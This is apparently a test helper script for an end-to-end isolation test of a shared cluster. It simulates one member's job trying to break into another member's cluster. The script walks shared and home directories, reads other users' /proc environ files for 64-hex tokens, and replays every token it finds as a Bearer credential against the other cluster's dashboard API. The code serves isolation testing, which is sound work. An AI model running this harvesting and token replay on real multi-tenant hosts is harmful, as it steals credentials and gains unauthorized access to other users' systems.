"""A member's job that tries to reach another member's cluster (tests/local/test_e2e_isolation.py).

    python isolation_attack.py OTHER_PARENT OTHER_HOME OTHER_DASHBOARD_PORT MARKER [FILE ...]

Prints one line `REPORT <json>`: every file it could read, every token it found, every answer of
the other cluster's dashboard, and whether the other member's MARKER appeared anywhere it read.
"""

from __future__ import annotations

import json
import os
import re
import sys
import urllib.error
import urllib.request
from pathlib import Path

TOKEN = re.compile(rb"\b[0-9a-f]{64}\b")


def read(path: Path, report: dict[str, list[str]], marker: bytes, found: set[bytes]) -> None:
    try:
        data = path.read_bytes()[:1_000_000]
    except OSError:
        return
    report["read"].append(str(path))
    found.update(TOKEN.findall(data))
    if marker in data:
        report["marker_in"].append(str(path))


def walk(root: Path, report: dict[str, list[str]], marker: bytes, found: set[bytes]) -> None:
    for folder, _, files in os.walk(root, onerror=lambda e: None):
        for name in files:
            read(Path(folder, name), report, marker, found)


def main() -> int:
    parent, home, port, marker, *extra = sys.argv[1:]
    report: dict[str, list[str]] = {"read": [], "marker_in": [], "answers": [],
                                    "signalled": []}
    found: set[bytes] = set()
    secret = marker[::-1].encode()  # given reversed: this job's own log holds its arguments
    # Every member's parent dir and home, and what is shared by all users.
    roots = [Path(parent), Path(home), *Path("/tmp").glob("rf-m-*"), Path("/dev/shm"),
             Path("/home")]
    for root in roots:
        walk(root, report, secret, found)
    for path in [*extra, f"{parent}/token"]:
        read(Path(path), report, secret, found)
    mine = os.getuid()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.stat(f"/proc/{pid}").st_uid != mine:
                read(Path(f"/proc/{pid}/environ"), report, secret, found)
                # Signal 0 delivers nothing: the kernel only says whether a signal would be.
                os.kill(int(pid), 0)
                report["signalled"].append(pid)
        except OSError:
            pass
    own = Path(os.environ.get("RAY_AUTH_TOKEN_PATH", "/nonexistent"))
    if own.exists():
        found.add(own.read_bytes().strip())
    report["tokens_found"] = [str(len(found))]
    for token in [b"", *sorted(found)]:
        request = urllib.request.Request(f"http://127.0.0.1:{port}/api/jobs/",
                                         headers={"Authorization": f"Bearer {token.decode()}"}
                                         if token else {})
        try:
            with urllib.request.urlopen(request, timeout=5) as answer:
                report["answers"].append(f"{answer.status} {answer.read()[:200]!r}")
        except urllib.error.HTTPError as exc:
            report["answers"].append(str(exc.code))
        except OSError as exc:
            report["answers"].append(f"error {type(exc).__name__}")
    print("REPORT " + json.dumps(report), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
